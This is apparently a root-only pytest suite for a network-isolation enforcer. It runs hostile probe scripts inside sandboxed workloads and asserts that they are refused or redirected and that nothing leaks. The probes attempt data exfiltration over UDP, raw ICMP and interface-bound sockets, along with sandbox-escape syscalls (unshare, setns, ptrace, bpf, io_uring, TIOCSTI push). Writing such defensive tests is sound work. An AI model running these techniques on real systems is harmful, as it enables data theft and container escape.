"""What a hostile program can and cannot reach, in both placements, with a sink that records every frame of the host's wire."""

from __future__ import annotations

import subprocess

import pytest

from tests.netns.stage import HOST_4, SINK_4, SINK_6, Stage, wait_for

pytestmark = pytest.mark.root

PLACEMENTS = ["isolated", "shared"]

_ATTEMPT = """
import ctypes, errno, json, os, select, socket, struct, sys
def attempt(body):
    try:
        return body()
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))
    except Exception as error:
        return repr(error)
def dial(family, address, kind=socket.SOCK_STREAM):
    with socket.socket(family, kind) as s:
        s.settimeout(3)
        s.connect(address)
        return s.makefile().readline().split(" ", 1)[-1].strip()
def send(family, address):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.sendto(b"stolen", address)
        return "sent"
def ask(family, address):
    with socket.socket(family, socket.SOCK_DGRAM) as s:
        s.settimeout(3)
        s.sendto(b"name", address)
        return s.recvfrom(100)[0].decode()
"""


DESTINATIONS = [
    (2, (SINK_4, 5432), f"{SINK_4}:5432"),
    (2, (SINK_4, 1), f"{SINK_4}:1"),
    (2, ("198.51.100.7", 65535), "198.51.100.7:65535"),
    (10, (SINK_6, 443), f"[{SINK_6}]:443"),
    (10, (f"::ffff:{SINK_4}", 9999), f"{SINK_4}:9999"),
    (2, ("127.0.0.1", 5432), "127.0.0.1:5432"),
    (10, ("::1", 5432), "[::1]:5432"),
    (2, (SINK_4, 53), f"{SINK_4}:53"),
    (10, (SINK_6, 53), f"[{SINK_6}]:53"),
]


@pytest.mark.parametrize("workload", PLACEMENTS)
@pytest.mark.parametrize(("family", "address", "destination"), DESTINATIONS)
def test_every_tcp_connection_reaches_the_leafs_own_listener_with_its_destination(
    host: Stage, workload: str, family: int, address: tuple[str, int], destination: str
) -> None:
    before = len(host.seen_by_sink())
    answer = host.probe(workload, _ATTEMPT + "print(json.dumps(attempt(lambda: dial(FAMILY, ADDRESS))))", FAMILY=family, ADDRESS=address)
    assert answer == destination
    assert host.leaked(before) == []


@pytest.mark.parametrize("workload", PLACEMENTS)
def test_dns_goes_to_the_leafs_own_listener_whatever_the_server(host: Stage, workload: str) -> None:
    script = "print(json.dumps([attempt(lambda: ask(f, (a, 53))) for f, a in SERVERS]))"
    servers = [(2, "8.8.8.8"), (2, "127.0.0.1"), (2, "127.0.0.53"), (10, "2001:4860:4860::8888"), (10, "::1")]
    before = len(host.seen_by_sink())
    assert host.probe(workload, _ATTEMPT + script, SERVERS=servers) == ["answer to name"] * 5
    assert host.leaked(before) == []


_HOSTILE = """
libc = ctypes.CDLL(None, use_errno=True)
def call(number, *arguments):
    result = libc.syscall(number, *arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), "")
    return "done"
def raw(family, kind, protocol, address):
    with socket.socket(family, kind, protocol) as s:
        s.sendto(b"\\x08\\0\\0\\0stolen", address)
        return "sent"
def marked():
    with socket.socket() as s:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_MARK, 0x2000)
        return "marked"
def through_device():
    with socket.socket() as s:
        s.settimeout(2)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"wan")
        s.connect((SINK_4, 5432))
        return s.makefile().readline().split(" ", 1)[-1].strip()
def multipath():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as s:
        s.connect((SINK_4, 5432))
        return "connected"
def fast_open():
    with socket.socket() as s:
        s.sendto(b"early", socket.MSG_FASTOPEN, (SINK_4, 5432))
        return s.makefile().readline().split(" ", 1)[-1].strip()
def ioctl_push():
    import fcntl, pty
    master, slave = pty.openpty()
    fcntl.ioctl(slave, 0x5412, b"x")
    return "pushed"
FAMILIES = {}
for number in range(46):
    if number not in (1, 2, 10, 16):
        FAMILIES[number] = attempt(lambda: socket.socket(number, socket.SOCK_DGRAM) and "made")
print(json.dumps({
    "udp4": attempt(lambda: send(2, (SINK_4, 443))), "udp6": attempt(lambda: send(10, (SINK_6, 443))),
    "udp mapped": attempt(lambda: send(10, ("::ffff:" + SINK_4, 443))), "multicast": attempt(lambda: send(2, ("224.0.0.251", 5353))),
    "broadcast": attempt(lambda: send(2, ("255.255.255.255", 9))),
    "icmp": attempt(lambda: raw(2, socket.SOCK_RAW, 1, (SINK_4, 0))), "ping": attempt(lambda: raw(2, socket.SOCK_DGRAM, 1, (SINK_4, 0))),
    "icmp6": attempt(lambda: raw(10, socket.SOCK_RAW, 58, (SINK_6, 0))), "sctp": attempt(lambda: raw(2, socket.SOCK_STREAM, 132, (SINK_4, 9))),
    "packet": attempt(lambda: socket.socket(17, socket.SOCK_RAW, 0x0300) and "made"),
    "netfilter": attempt(lambda: socket.socket(16, socket.SOCK_RAW, 12) and "made"),
    "families": sorted(set(FAMILIES.values())),
    "mark": attempt(marked), "device": attempt(through_device), "multipath": attempt(multipath), "fast open": attempt(fast_open),
    "setuid": attempt(lambda: os.setuid(0)), "proxy uid": attempt(lambda: os.setuid(61000)),
    "unshare user": attempt(lambda: call(272, 0x10000000)), "unshare net": attempt(lambda: call(272, 0x40000000)),
    "clone": attempt(lambda: call(56, 0x10000000 | 17, 0, 0, 0, 0)), "clone3": attempt(lambda: call(435, 0, 0)),
    "setns": attempt(lambda: call(308, os.open("/proc/self/ns/net", os.O_RDONLY), 0)),
    "mount": attempt(lambda: call(165, b"none", b"/tmp", b"tmpfs", 0, 0)), "ptrace": attempt(lambda: call(101, 16, 1, 0, 0)),
    "pidfd_getfd": attempt(lambda: call(438, 0, 0, 0)), "io_uring": attempt(lambda: call(425, 8, 0)), "bpf": attempt(lambda: call(321, 0, 0, 0)),
    "x32": attempt(lambda: call(0x40000000 | 41, 2, 1, 0)), "keyctl": attempt(lambda: call(250, 0, 0)), "push": attempt(ioctl_push),
    "cgroup": attempt(lambda: open("/sys/fs/cgroup/cgroup.procs", "w").write("0")),
}))
"""


@pytest.mark.parametrize("workload", PLACEMENTS)
def test_nothing_but_redirected_tcp_and_dns_leaves(host: Stage, workload: str) -> None:
    before = len(host.seen_by_sink())
    observed = host.probe(workload, _ATTEMPT + _HOSTILE, SINK_4=SINK_4, SINK_6=SINK_6)
    isolated = workload == "isolated"
    # The kernel's own no to a broadcast comes after an eBPF program's, where there is one.
    assert observed.pop("broadcast") in ("EACCES", "EPERM")
    assert observed == {
        "udp4": "EPERM",
        "udp6": "EPERM",
        "udp mapped": "EPERM",
        "multicast": "EPERM" if not isolated else observed["multicast"],
        "icmp": "EPERM",
        "ping": "EPERM",
        "icmp6": "EPERM",
        "sctp": "EPROTONOSUPPORT",
        "packet": "EAFNOSUPPORT",
        "netfilter": "EAFNOSUPPORT",
        "families": ["EAFNOSUPPORT"],
        "mark": "EPERM",
        "device": "ENODEV" if isolated else observed["device"],
        "multipath": "EPROTONOSUPPORT",
        "fast open": f"{SINK_4}:5432",
        "setuid": "EPERM",
        "proxy uid": "EPERM",
        "unshare user": "EPERM",
        "unshare net": "EPERM",
        "clone": "EPERM",
        "clone3": "ENOSYS",
        "setns": "EPERM",
        "mount": "EPERM",
        "ptrace": "EPERM",
        "pidfd_getfd": "EPERM",
        "io_uring": "ENOSYS",
        "bpf": "EPERM",
        "x32": "EPERM",
        "keyctl": "EPERM",
        "push": "EPERM",
        "cgroup": "ENOENT",
    }
    assert observed["multicast"] in ("EPERM", "ENETUNREACH", "ENODEV")
    assert observed["device"] in ("ENODEV", "timed out", "EPERM", "EHOSTUNREACH", "ECONNREFUSED")
    assert host.leaked(before) == []


@pytest.mark.parametrize("workload", PLACEMENTS)
def test_what_the_rules_refuse_becomes_a_row_with_workload_and_destination(host: Stage, workload: str) -> None:
    host.probe(workload, _ATTEMPT + "print(json.dumps([attempt(lambda: send(2, ('192.0.2.77', 4433))) for _ in range(20)]))")
    rows = wait_for("the row", lambda: [r for r in host.events("refusal") if r.get("destination") == "192.0.2.77:4433" and r["workload"] == workload])
    # In shared placement an eBPF program, where there is one, is before the rules.
    layer = "bpf" if workload == "shared" and not host.status()["bpf"]["problem"] else "nft"
    assert [(row["layer"], row["transport"], row["leaf"].startswith(workload)) for row in rows] == [(layer, "udp", True)] * len(rows)
    assert sum(row["count"] for row in rows) == 20


@pytest.mark.parametrize("workload", PLACEMENTS)
def test_the_listener_cannot_be_dialled_directly(host: Stage, workload: str) -> None:
    first = 901 if workload == "isolated" else 700
    script = "print(json.dumps([attempt(lambda: dial(f, (a, p))) for p in PORTS for f, a in ((2, '127.0.0.1'), (2, '127.0.0.2'), (10, '::1'))]))"
    assert host.probe(workload, _ATTEMPT + script, PORTS=[first, first + 1]) == ["ECONNREFUSED"] * 6


def test_in_shared_placement_another_leafs_listener_is_out_of_reach(host: Stage) -> None:
    process = host.start("shared", "sleep", "1000")
    wait_for("the first leaf", lambda: [each for each in host.status()["leaves"] if each["served"] and each["pid"]])
    script = "print(json.dumps([attempt(lambda: dial(2, ('127.0.0.1', p))) for p in (700, 701, 702, 703)] + [attempt(lambda: dial(2, (SINK, 700)))]))"
    observed = host.probe("other", _ATTEMPT + script, SINK=SINK_4)
    process.terminate()
    process.communicate()
    # By the address of elsewhere it is a connection like any other: redirected to its own listener.
    assert observed == ["ECONNREFUSED"] * 4 + [f"{SINK_4}:700"]


def test_nobody_outside_may_act_as_a_workload_by_dialling_its_listener(host: Stage) -> None:
    process = host.start("shared", "sleep", "1000")
    wait_for("the leaf", lambda: [each for each in host.status()["leaves"] if each["served"] and each["pid"]])
    script = "print(json.dumps([attempt(lambda: dial(f, (a, p))) for p in (700, 701) for f, a in ((2, '127.0.0.1'), (10, '::1'), (2, HOST))] + [attempt(lambda: dial(2, (SINK, 5432)))]))"
    observed = host.outside(_ATTEMPT + script, HOST=HOST_4, SINK=SINK_4)
    process.terminate()
    process.communicate()
    # The last one shows that an ungoverned program reaches the sink, so the others were refused by rule.
    assert observed == ["ECONNREFUSED"] * 6 + [""]


@pytest.mark.parametrize("workload", PLACEMENTS)
def test_a_workload_reaches_its_own_loopback_servers(host: Stage, workload: str) -> None:
    script = """
import threading
def serve(family, address):
    server = socket.create_server(address, family=family)
    def once():
        connection, _ = server.accept()
        connection.sendall(b"x own server\\n")
        connection.close()
    threading.Thread(target=once, daemon=True).start()
    return attempt(lambda: dial(family, address))
print(json.dumps([serve(2, ("127.0.0.1", 8080)), serve(10, ("::1", 8081))]))
"""
    assert host.probe(workload, _ATTEMPT + script) == ["own server", "own server"]


def test_in_shared_placement_other_peoples_loopback_servers_are_out_of_reach(host: Stage) -> None:
    server = _host_server(host, "127.0.0.1", 8090)
    script = "print(json.dumps(attempt(lambda: dial(2, ('127.0.0.1', 8090)))))"
    try:
        assert host.outside(_ATTEMPT + script) == "host server"
        refused = host.probe("shared", _ATTEMPT + script)
    finally:
        server.kill()
        server.communicate()
    assert refused in ("ECONNREFUSED", "EHOSTUNREACH", "EPERM", "EACCES")


@pytest.mark.parametrize("workload", PLACEMENTS)
def test_nobody_connects_into_a_workload(host: Stage, workload: str) -> None:
    script = "s = __import__('socket').create_server(('0.0.0.0', 8100)); print('up', flush=True); s.settimeout(20)\ntry:\n s.accept(); print('entered')\nexcept OSError: pass"
    process = host.start(workload, "/usr/bin/python3", "-I", "-c", script)
    assert process.stdout is not None
    assert process.stdout.readline() == "up\n"
    answers = host.outside(_ATTEMPT + "print(json.dumps([attempt(lambda: dial(2, (a, 8100))) for a in ('127.0.0.1', HOST)]))", HOST=HOST_4)
    process.terminate()
    out, _ = process.communicate(timeout=20)
    assert out == ""
    assert all(answer in ("ECONNREFUSED", "EHOSTUNREACH", "EACCES", "EPERM", "ENETUNREACH") for answer in answers), answers


def test_an_outsiders_packet_does_not_make_a_reply_of_what_a_workload_sends(host: Stage) -> None:
    """Attack 45: knock from outside, then send back as if answering."""
    script = "s = __import__('socket').socket(2, 2); s.bind(('0.0.0.0', 8200)); print('up', flush=True); input()\ntry:\n s.sendto(b'stolen', (PEER, 8201)); print('sent')\nexcept OSError as e: print(e.errno)"
    process = host.start("shared", "/usr/bin/python3", "-I", "-c", f"PEER = {SINK_4!r}\n{script}", stdin=subprocess.PIPE)
    assert process.stdout is not None
    assert process.stdout.readline() == "up\n"
    _knock(host)
    before = len(host.seen_by_sink())
    out, _ = process.communicate("\n", timeout=20)
    assert out == "1\n"
    # The kernel itself may tell the knocker "unreachable", quoting the knock and nothing else.
    assert [frame for frame in host.leaked(before) if b"stolen".hex() in frame] == []


def test_the_sink_sees_what_is_not_governed(host: Stage) -> None:
    before = len(host.seen_by_sink())
    assert host.outside(_ATTEMPT + "print(json.dumps([attempt(lambda: send(2, (SINK, 443))), attempt(lambda: send(10, (SINK6, 443)))]))", SINK=SINK_4, SINK6=SINK_6) == ["sent", "sent"]
    frames = wait_for("the frames", lambda: [f for f in host.leaked(before) if b"stolen".hex() in f])
    assert len(frames) >= 1


def _host_server(host: Stage, address: str, port: int) -> subprocess.Popen[str]:
    from hostagent.enforcer import kernel

    script = f"import socket\ns = socket.create_server(({address!r}, {port})); print('up', flush=True)\nwhile True:\n c, _ = s.accept(); c.sendall(b'x host server\\n'); c.close()"
    with kernel.in_network(host.host):
        process = subprocess.Popen(["/usr/bin/python3", "-I", "-c", script], stdout=subprocess.PIPE, text=True)
    assert process.stdout is not None
    assert process.stdout.readline() == "up\n"
    return process


def _knock(host: Stage) -> None:
    from hostagent.enforcer import kernel

    script = f"import socket\ns = socket.socket(2, 2); s.bind(('0.0.0.0', 8201)); s.sendto(b'knock', ({HOST_4!r}, 8200))"
    with kernel.in_network(host.internet):
        subprocess.run(["/usr/bin/python3", "-I", "-c", script], check=True)


def test_a_socket_tied_to_the_hosts_device_sends_nothing_out_there(host: Stage) -> None:
    """A redirected packet keeps the device its socket was tied to; neither connection, early data nor a DNS query may use it."""
    script = """
index = socket.if_nametoindex("wan")
def tied(kind):
    s = socket.socket(2, kind)
    s.settimeout(1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"wan")
    return s
results = [
    attempt(lambda: tied(socket.SOCK_STREAM).connect((SINK, 5432))),
    attempt(lambda: tied(socket.SOCK_STREAM).sendto(b"stolen", socket.MSG_FASTOPEN, (SINK, 5432))),
    attempt(lambda: tied(socket.SOCK_DGRAM).sendto(b"stolen", (SINK, 53))),
    attempt(lambda: socket.socket(2, socket.SOCK_DGRAM).sendmsg([b"stolen"], [(0, 8, struct.pack("=I4s4s", index, b"", b""))], 0, (SINK, 53))),
    attempt(lambda: socket.socket(10, socket.SOCK_DGRAM).sendmsg([b"stolen"], [(41, 50, b"\\0" * 16 + struct.pack("=I", index))], 0, (SINK6, 53))),
]
print(json.dumps(results))
"""
    before = len(host.seen_by_sink())
    host.probe("shared", _ATTEMPT + script, SINK=SINK_4, SINK6=SINK_6)
    assert host.leaked(before) == []
